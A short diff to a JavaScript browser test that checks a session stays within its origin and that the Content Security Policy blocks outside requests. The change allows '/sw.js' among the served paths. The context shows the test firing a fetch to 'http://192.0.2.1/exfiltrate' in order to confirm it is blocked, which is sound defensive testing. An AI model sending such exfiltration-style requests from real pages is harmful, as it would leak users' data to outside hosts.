@@ -77,7 +77,7 @@ test('a session requests nothing outside the page\'s origin, and the CSP blocks 
   assert.deepEqual(errors, [], 'no console errors during the session');
   assert.deepEqual(outsideRequests, [], 'no request left the origin');
   const served = new Set(env.server.requests);
-  for (const path of served) assert.ok(path === '/' || path.startsWith('/www/') || path === '/favicon.ico', `unexpected path requested: ${path}`);
+  for (const path of served) assert.ok(path === '/' || path.startsWith('/www/') || path === '/favicon.ico' || path === '/sw.js', `unexpected path requested: ${path}`);
   // The CSP is live: a fetch or an image to another host is refused before it leaves the page.
   const attempts = await page.evaluate(async () => {
     const fetched = await fetch('http://192.0.2.1/exfiltrate').then(() => 'sent', () => 'blocked');
